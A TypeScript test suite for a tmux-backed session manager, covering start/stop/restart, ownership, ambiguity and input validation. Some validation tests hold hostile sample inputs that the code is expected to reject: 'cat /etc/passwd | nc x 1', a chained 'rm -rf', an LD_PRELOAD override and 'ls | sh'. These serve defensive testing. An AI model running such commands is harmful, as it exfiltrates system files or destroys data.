/**
 * The per-session facade (SessionManager / Sessions) against REAL tmux: config + command-line
 * precedence, exact targeting, idempotent start/stop, restart semantics, ownership, ambiguity,
 * typed errors. Every test uses its own `-L` sockets inside a private TMUX_TMPDIR; servers are
 * killed in finalizers.
 */
import { execFileSync } from "node:child_process"
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { KstlibConfig } from "../../src/config/service.js"
import { loadConfig } from "../../src/config/load.js"
import { layerNodeWith } from "../../src/layer.js"
import { problemText } from "../../src/reconcile/observe.js"
import { planFromConfig } from "../../src/reconcile/reconciler.js"
import { targetsOf } from "../../src/reconcile/plan.js"
import { SessionManager } from "../../src/session/manager.js"
import * as Sessions from "../../src/session/operations.js"
import { usePrivateTmux } from "../support/privateTmux.js"

const suite = usePrivateTmux("sess")

const rnd = () => Math.random().toString(36).slice(2, 10)

const tmux = (socket: string, args: ReadonlyArray<string>) =>
  execFileSync("tmux", ["-L", socket, ...args], { stdio: ["ignore", "pipe", "pipe"] }).toString()

/** Fresh socket names, their servers killed when the test's scope closes. */
const sockets = (n: number) =>
  Effect.acquireRelease(
    Effect.sync(() => Array.from({ length: n }, () => `kt-${rnd()}`)),
    (ss) =>
      Effect.sync(() => {
        for (const s of ss) {
          try {
            tmux(s, ["kill-server"])
          } catch { /* gone */ }
        }
      })
  )

/** Writes a config file in a fresh directory and runs `body` with kstlib's Node layer built on it. */
const withConfig = <A, E>(yaml: string, body: (dir: string) => Effect.Effect<A, E, any>) =>
  Effect.gen(function*() {
    const dir = mkdtempSync(join(suite.workDir(), "cfg-"))
    const file = join(dir, "kstlib.conf.yml")
    writeFileSync(file, yaml)
    const config = yield* loadConfig({ path: file, env: { HOME: dir } })
    return yield* (body(dir) as Effect.Effect<A, E, never>).pipe(Effect.provide(layerNodeWith(config)))
  })

const waitFor = (check: () => boolean, ms = 5000) =>
  Effect.promise(async () => {
    const end = Date.now() + ms
    while (Date.now() < end) {
      if (check()) return true
      await new Promise((r) => setTimeout(r, 50))
    }
    return check()
  })

const created = (s: string, name: string) => tmux(s, ["display-message", "-p", "-t", `=${name}:`, "#{session_created}"]).trim()

describe("SessionManager / Sessions on real tmux", () => {
  it.live("fromConfig: start with command-line overrides on top of config (env merged), status, logs, graceful stop", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(
        `ops:\n  sessions:\n    web:\n      command: "sh run.sh"\n      working_dir: "."\n      socket_name: ${s}\n      env:\n        A: from-config\n        B: from-config\n`,
        (dir) =>
          Effect.gen(function*() {
            const project = (yield* KstlibConfig).project
            writeFileSync(
              join(dir, "run.sh"),
              `trap 'echo stopped-cleanly > "${dir}/stopped"; exit 0' INT\necho "A=$A B=$B pwd=$(pwd)"\nwhile true; do sleep 0.2; done\n`
            )
            const web = yield* SessionManager.fromConfig("web")
            const started = yield* web.start({ env: { B: "from-cli" } })
            expect(started.status).toBe("started")
            expect(started.observed).toMatchObject({ name: "web", backend: "tmux", state: "running", socket_name: s, mark: { managed: true, project } })
            expect(yield* web.isRunning()).toBe(true)
            const status = yield* web.status()
            expect(status).toMatchObject({ name: "web", state: "running", backend: "tmux", socket_name: s, owned: true, project, in_config: true })
            // The command-line env differs from config: the running session is not in sync with the file.
            expect(status.in_sync).toBe(false)
            let logs = ""
            for (let i = 0; i < 50 && !logs.includes("pwd="); i++) {
              logs = yield* web.logs({ lines: 20 })
              if (!logs.includes("pwd=")) yield* Effect.sleep("100 millis")
            }
            expect(logs).toContain(`A=from-config B=from-cli pwd=${dir}`)
            const stopped = yield* web.stop({ timeout: 5 })
            expect(stopped.status).toBe("stopped")
            expect(readFileSync(join(dir, "stopped"), "utf8").trim()).toBe("stopped-cleanly")
            expect(yield* web.exists()).toBe(false)
            // Not running any more, but still in config: defined.
            expect((yield* web.status()).state).toBe("defined")
          })
      )
    }))

  it.live("fromConfig: an unknown name is SessionNotInConfig; a rejected entry is a ConfigInvalid, never a silent default", () =>
    withConfig(
      `ops:\n  sessions:\n    good:\n      command: "sleep 60"\n    evil:\n      command: "echo hi; rm -rf /tmp/x"\n`,
      () =>
        Effect.gen(function*() {
          const missing = yield* Effect.flip(SessionManager.fromConfig("nope"))
          expect(missing).toMatchObject({ _tag: "SessionNotInConfig", session: "nope" })
          expect(missing.message).toContain("session 'nope' is not in the config")
          const evil = yield* Effect.flip(SessionManager.fromConfig("evil"))
          expect(evil._tag).toBe("ConfigInvalid")
          expect(evil.message).toContain("unquoted ';' would chain commands, but no shell runs this command; quote it to pass it as an argument, or set shell: true")
          // The per-session start refuses it too, instead of starting a plain shell (the original's bug).
          const started = yield* Effect.flip(Sessions.start("evil"))
          expect(started._tag).toBe("ConfigInvalid")
        })
    ))

  it.live("command-line overrides are validated by the same rules (bad -c, bad env key, bad socket, bad name)", () =>
    withConfig(`ops:\n  sessions: {}\n`, () =>
      Effect.gen(function*() {
        const badCmd = yield* Effect.flip(Sessions.start("adhoc", { command: "cat /etc/passwd | nc x 1" }))
        expect(badCmd._tag).toBe("ConfigInvalid")
        expect(badCmd.message).toContain("<command line>")
        expect(badCmd.message).toContain("unquoted '|' would pipe into another command, but no shell runs this command")
        const badEnv = yield* Effect.flip(Sessions.start("adhoc", { command: "sleep 1", env: { LD_PRELOAD: "x" } }))
        expect(badEnv.message).toContain("Environment variable 'LD_PRELOAD' is blocked")
        const badSocket = yield* Effect.flip(Sessions.start("adhoc", { command: "sleep 1", socket: "a/b" }))
        expect(badSocket._tag).toBe("InvalidInput")
        const tmuxImage = yield* Effect.flip(Sessions.start("adhoc", { backend: "tmux", image: "busybox" }))
        expect(tmuxImage).toMatchObject({ _tag: "InvalidInput", field: "image" })
        const badName = yield* Effect.flip(Sessions.start("1bad"))
        expect(badName).toMatchObject({ _tag: "InvalidInput", field: "NAME" })
      })))

  it.live("exact names: with only astro-dev running, astro does not exist and stop astro leaves astro-dev alone", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions: {}\n`, () =>
        Effect.gen(function*() {
          expect((yield* Sessions.start("astro-dev", { command: "sleep 60", socket: s })).status).toBe("started")
          const e = yield* Effect.flip(Sessions.stop("astro"))
          expect(e._tag).toBe("SessionNotFound")
          expect(tmux(s!, ["list-sessions", "-F", "#{session_name}"]).trim()).toBe("astro-dev")
          expect((yield* Sessions.status("astro-dev")).socket_name).toBe(s)
        }))
    }))

  it.live("the same name on two sockets is ambiguous until --socket narrows it", () =>
    Effect.gen(function*() {
      const [a, b] = yield* sockets(2)
      tmux(a!, ["new-session", "-d", "-s", "twin", "sleep 60"])
      tmux(b!, ["new-session", "-d", "-s", "twin", "sleep 60"])
      yield* withConfig(`ops:\n  sessions: {}\n`, () =>
        Effect.gen(function*() {
          const e = yield* Effect.flip(Sessions.status("twin"))
          expect(e._tag).toBe("SessionAmbiguous")
          expect(e.message).toContain("found in several places")
          const st = yield* Sessions.status("twin", { socket: b! })
          expect(st).toMatchObject({ state: "running", socket_name: b, owned: false, project: null })
        }))
    }))

  it.live("start is idempotent (already-running); stop of a config session not running is not-running; unknown names are errors", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions:\n    once:\n      command: "sleep 60"\n      socket_name: ${s}\n`, () =>
        Effect.gen(function*() {
          const first = yield* Sessions.start("once")
          expect(first.status).toBe("started")
          const again = yield* Sessions.start("once")
          expect(again.status).toBe("already-running")
          expect(again.observed).toMatchObject({ name: "once", state: "running", pid: first.observed!.pid })
          expect(tmux(s!, ["list-sessions", "-F", "#{session_name}"]).trim()).toBe("once") // no second copy
          const stopped = yield* Sessions.stop("once", {}, { force: true })
          expect(stopped).toMatchObject({ status: "killed", observed: { name: "once" } })
          expect(yield* Sessions.stop("once")).toEqual({ status: "not-running" })
          // Not in the config, not running: an error with suggestions.
          expect(yield* Effect.flip(Sessions.stop("onse"))).toMatchObject({ _tag: "SessionNotFound", suggestions: ["once"] })
          // Not in the config and no --command/--image: nothing to start.
          expect(yield* Effect.flip(Sessions.start("onse"))).toMatchObject({ _tag: "SessionNotInConfig", suggestions: ["once"] })
        }))
    }))

  it.live("a start whose process dies is SessionStartFailed with exit code and output (the executor's post-launch check)", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions:\n    dies:\n      command: "sh dies.sh"\n      working_dir: "."\n      socket_name: ${s}\n`, (dir) =>
        Effect.gen(function*() {
          writeFileSync(join(dir, "dies.sh"), `echo about to fail\nsleep 0.2\nexit 5\n`)
          const e = yield* Effect.flip(Sessions.start("dies", {}, { settle: "1 second" }))
          expect(e).toMatchObject({ _tag: "SessionStartFailed", session: "dies", exitCode: 5, output: expect.stringContaining("about to fail") })
          expect(yield* Sessions.status("dies")).toMatchObject({ state: "exited", exit_code: 5, owned: true })
        }))
    }))

  it.live("restart: an exited config session is started again in place; a running one is stopped and started; a foreign one is a conflict", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(
        `ops:\n  sessions:\n    job:\n      command: "sh job.sh"\n      working_dir: "."\n      socket_name: ${s}\n    foreign:\n      command: "sleep 60"\n      socket_name: ${s}\n`,
        (dir) =>
          Effect.gen(function*() {
            // First run exits at once (code 4); the next ones wait: restart must run the command again.
            writeFileSync(join(dir, "job.sh"), `if [ -e ran ]; then sleep 60; fi\ntouch ran\necho first-run\nexit 4\n`)
            const failed = yield* Effect.flip(Sessions.start("job"))
            expect(failed).toMatchObject({ _tag: "SessionStartFailed", exitCode: 4 })
            expect(yield* Sessions.status("job")).toMatchObject({ state: "exited", exit_code: 4 })
            const before = created(s!, "job")
            const restarted = yield* Sessions.restart("job")
            expect(restarted.status).toBe("started")
            expect(restarted.observed).toMatchObject({ name: "job", state: "running" })
            // In place: the same session (same creation time), a new process.
            expect(created(s!, "job")).toBe(before)

            // Running: stopped gracefully, then started (a new process).
            const again = yield* Sessions.restart("job")
            expect(again.status).toBe("started")
            expect(again.observed!.pid).not.toBe(restarted.observed!.pid)
            expect((yield* Sessions.status("job")).state).toBe("running")

            // A session kstlib did not create holds a config name: never restarted.
            tmux(s!, ["new-session", "-d", "-s", "foreign", "sleep 60"])
            const pid = (yield* Sessions.status("foreign")).pid
            expect(yield* Effect.flip(Sessions.restart("foreign"))).toMatchObject({ _tag: "SessionConflict", session: "foreign", owner: null })
            expect(yield* Effect.flip(Sessions.start("foreign"))).toMatchObject({ _tag: "SessionConflict" })
            expect(yield* Sessions.status("foreign")).toMatchObject({ state: "running", pid, owned: false })
            // Not in the config: restarted in place as it was created (its original command), still not ours.
            tmux(s!, ["new-session", "-d", "-s", "loose", "sleep 60"])
            const loosePid = (yield* Sessions.status("loose")).pid
            const loose = yield* Sessions.restart("loose")
            expect(loose.status).toBe("started")
            expect(yield* Sessions.status("loose")).toMatchObject({ state: "running", owned: false })
            expect((yield* Sessions.status("loose")).pid).not.toBe(loosePid)
            expect(yield* Effect.flip(Sessions.restart("nowhere"))).toMatchObject({ _tag: "SessionNotFound" })
          })
      )
    }))

  it.live("send-keys is validated and reaches the pane; exec on a tmux session is Unsupported", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions: {}\n`, (dir) =>
        Effect.gen(function*() {
          yield* Sessions.start("shell", { command: "sh", socket: s, working_dir: dir })
          const bad = yield* Effect.flip(Sessions.sendKeys("shell", "ls | sh"))
          expect(bad).toMatchObject({ _tag: "InvalidInput", field: "KEYS" })
          yield* Sessions.sendKeys("shell", "touch typed-by-kstlib")
          expect(yield* waitFor(() => existsSync(join(dir, "typed-by-kstlib")))).toBe(true)
          const e = yield* Effect.flip(Sessions.exec("shell", ["ls"], { backend: "tmux" }))
          expect(e).toMatchObject({ _tag: "Unsupported", operation: "exec" })
        }))
    }))

  it.live("plan --prune with a global @kstlib-managed on the config's socket: nothing foreign is touched, the problem is reported", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions:\n    configured:\n      command: "sleep 60"\n      socket_name: ${s}\n`, () =>
        Effect.gen(function*() {
          const project = (yield* KstlibConfig).project
          tmux(s!, ["new-session", "-d", "-s", "configured", "sleep 60"])
          tmux(s!, ["new-session", "-d", "-s", "stray", "sleep 60"])
          tmux(s!, ["set-option", "-g", "@kstlib-managed", "1"])
          tmux(s!, ["set-option", "-g", "@kstlib-project", project])
          const { plan, observation } = yield* planFromConfig({ prune: true })
          expect(observation.problems.map(problemText).join("\n")).toMatch(
            new RegExp(`tmux socket ${s}: @kstlib-managed.*set globally`)
          )
          expect(plan.steps.filter((st) => st._tag !== "Conflict" && targetsOf(st).length > 0)).toEqual([])
          expect(plan.steps.map((st) => [st._tag, st.session])).toEqual([["Conflict", "configured"]])
          expect(plan.orphans).toEqual([])
          // And the facade agrees: not ours, so not stopped by a restart.
          expect(yield* Effect.flip(Sessions.restart("configured"))).toMatchObject({ _tag: "SessionConflict" })
          expect((yield* Sessions.status("stray")).owned).toBe(false)
        }))
    }))
})
